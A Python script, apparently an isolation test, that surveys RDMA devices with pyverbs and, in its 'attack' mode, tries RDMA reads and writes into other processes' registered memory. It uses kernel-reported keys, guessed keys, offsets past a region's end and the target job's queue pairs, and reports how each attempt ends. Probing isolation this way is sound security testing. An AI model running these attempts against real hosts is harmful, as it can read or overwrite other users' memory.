"""An independent look at RDMA by pyverbs, and a hostile neighbour: a program, without ringcoll.

    witness.py survey             what the devices, ports and GIDs are, as JSON
    witness.py attack PID...      tries to reach the memory of these processes, and says as JSON how
                                  each attempt ended

It runs on the interpreter that Debian builds pyverbs for.
"""

from __future__ import annotations

import json
import random
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from ipaddress import IPv6Address
from pathlib import Path
from typing import Any

import pyverbs.enums as e
from pyverbs.addr import AHAttr, GlobalRoute
from pyverbs.cq import CQ
from pyverbs.device import Context, get_device_list
from pyverbs.mr import MR
from pyverbs.pd import PD
from pyverbs.qp import QP, QPAttr, QPCap, QPInitAttr
from pyverbs.wr import SGE, SendWR

BYTES = 4096
MOST_GIDS = 1024
ACCESS = e.IBV_ACCESS_LOCAL_WRITE | e.IBV_ACCESS_REMOTE_WRITE | e.IBV_ACCESS_REMOTE_READ
STATES = {e.IBV_PORT_DOWN: "down", e.IBV_PORT_INIT: "init", e.IBV_PORT_ACTIVE: "active"}
LAYERS = {1: "InfiniBand", 2: "Ethernet"}
GID_TYPES = {0: "InfiniBand", 1: "RoCE v1", 2: "RoCE v2"}
STATUSES = {
    e.IBV_WC_SUCCESS: "success",
    e.IBV_WC_REM_ACCESS_ERR: "remote access error",
    e.IBV_WC_REM_INV_REQ_ERR: "remote invalid request",
    e.IBV_WC_RETRY_EXC_ERR: "retry exceeded",
}


def survey() -> list[dict[str, Any]]:
    return [_device(found.name.decode()) for found in get_device_list()]


def _device(name: str) -> dict[str, Any]:
    with Context(name=name) as context:
        attributes = context.query_device()
        entries = context.query_gid_table(MOST_GIDS)
        ports = [
            _port(context, number, [entry for entry in entries if entry.port_num == number])
            for number in range(1, attributes.phys_port_cnt + 1)
        ]
        return {
            "name": name,
            "firmware": attributes.fw_version,
            "queue_pairs": attributes.max_qp,
            "work_requests": attributes.max_qp_wr,
            "memory_region_bytes": attributes.max_mr_size,
            "ports": ports,
        }


def _port(context: Context, number: int, entries: list[Any]) -> dict[str, Any]:
    port = context.query_port(number)
    return {
        "number": number,
        "state": STATES.get(port.state, str(port.state)),
        "link_layer": LAYERS.get(port.link_layer, str(port.link_layer)),
        "lid": port.lid,
        "active_mtu_bytes": 128 << port.active_mtu,
        "max_message_bytes": port.max_msg_sz,
        "gids": [
            {
                "index": entry.gid_index,
                "gid": str(IPv6Address(entry.gid_str())),
                "type": GID_TYPES[entry.gid_type],
                "interface": entry.ndev_ifindex,
            }
            for entry in entries
        ],
    }


@dataclass
class Memory:
    """Registered memory of others that the kernel grants a key for, as it tells root."""

    rkey: int
    bytes: int


def _resources(kind: str) -> list[dict[str, Any]]:
    """Of the whole device: they name a process only while the thread that made them lives."""
    command = ["rdma", "-j", "-d", "resource", "show", kind]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    return json.loads(done.stdout)


def _granted() -> list[Memory]:
    found = [Memory(int(row["rkey"], 16), row["mrlen"]) for row in _resources("mr")]
    return [memory for memory in found if memory.rkey]


def _mappings(memory: Memory, pids: list[int]) -> Iterator[int]:
    """Where such memory begins in one of the processes, if it is a mapping of its own."""
    for pid in pids:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            begin, end = (int(text, 16) for text in line.split()[0].split("-"))
            if end - begin == memory.bytes:
                yield begin


class Neighbour:
    """Queue pairs of this process, on the device and the network of those that it attacks."""

    def __init__(self) -> None:
        self.context = Context(name=get_device_list()[0].name.decode())
        self.domain = PD(self.context)
        self.queue = CQ(self.context, 64)
        self.memory = MR(self.domain, BYTES, ACCESS)
        self.gid_index = next(
            entry.gid_index
            for entry in self.context.query_gid_table(MOST_GIDS)
            if entry.gid_type == 2 and IPv6Address(entry.gid_str()).ipv4_mapped
        )

    def attempt(self, opcode: int, address: int, rkey: int, target_qp: int | None = None) -> str:
        """How one request ends. It goes to a queue pair of this process, or to `target_qp`."""
        here, there = self._pair(), self._pair()
        self._connect(here, target_qp or there.qp_num)
        self._connect(there, here.qp_num)
        request = SendWR(
            num_sge=1,
            sg=[SGE(self.memory.buf, 64, self.memory.lkey)],
            opcode=opcode,
            send_flags=e.IBV_SEND_SIGNALED,
        )
        request.set_wr_rdma(rkey, address)
        here.post_send(request)
        status = self._status()
        here.close()
        there.close()
        return status

    def control(self, opcode: int) -> str:
        """The same into memory of this process: shows that the attempts are well formed."""
        return self.attempt(opcode, self.memory.buf + 1024, self.memory.rkey)

    def _pair(self) -> QP:
        room = QPCap(max_send_wr=4, max_recv_wr=4)
        wanted = QPInitAttr(qp_type=e.IBV_QPT_RC, scq=self.queue, rcq=self.queue, cap=room)
        attributes = QPAttr(port_num=1)
        attributes.qp_access_flags = ACCESS
        return QP(self.domain, wanted, attributes)

    def _connect(self, pair: QP, remote: int) -> None:
        attributes = QPAttr(port_num=1)
        route = GlobalRoute(dgid=self.context.query_gid(1, self.gid_index), hop_limit=64)
        route.sgid_index = self.gid_index
        attributes.ah_attr = AHAttr(port_num=1, is_global=1, gr=route)
        attributes.path_mtu = e.IBV_MTU_1024
        attributes.dest_qp_num = remote
        attributes.rq_psn = attributes.sq_psn = 1234
        attributes.max_rd_atomic = attributes.max_dest_rd_atomic = 1
        attributes.timeout, attributes.retry_cnt, attributes.rnr_retry = 14, 1, 1
        attributes.min_rnr_timer = 12
        pair.to_rts(attributes)

    def _status(self) -> str:
        end = time.monotonic() + 20
        while time.monotonic() < end:
            count, completions = self.queue.poll()
            if count:
                return STATUSES.get(completions[0].status, f"status {completions[0].status}")
        return "nothing"


def attack(pids: list[int]) -> dict[str, Any]:
    targets = _granted()
    pairs = [row["lqpn"] for row in _resources("qp") if row["type"] == "RC"]
    neighbour = Neighbour()
    opcodes = {"write": e.IBV_WR_RDMA_WRITE, "read": e.IBV_WR_RDMA_READ}
    attempts: list[dict[str, str]] = []

    def note(how: str, *arguments: Any) -> None:
        for name, code in opcodes.items():
            attempts.append({"how": f"{name} {how}", "status": neighbour.attempt(code, *arguments)})

    controls = {name: neighbour.control(code) for name, code in opcodes.items()}
    places = {memory.rkey: list(_mappings(memory, pids)) for memory in targets}
    for memory in targets:
        for place in places[memory.rkey] or [0]:
            note("by the key of the memory", place, memory.rkey)
            note("past the end of the memory", place + memory.bytes - 32, memory.rkey)
    for _ in range(8):
        note("by a guessed key", neighbour.memory.buf, random.getrandbits(32))
    for number in pairs:
        for memory in targets:
            note(
                "to a queue pair of the job",
                next(iter(places[memory.rkey]), 0),
                memory.rkey,
                number,
            )
    return {
        "controls": controls,
        "regions": len(targets),
        "places": sum(len(found) for found in places.values()),
        "queue_pairs": len(pairs),
        "attempts": attempts,
    }


def main() -> None:
    if sys.argv[1] == "survey":
        print(json.dumps(survey()))
    else:
        print(json.dumps(attack([int(word) for word in sys.argv[2:]])))


if __name__ == "__main__":
    main()
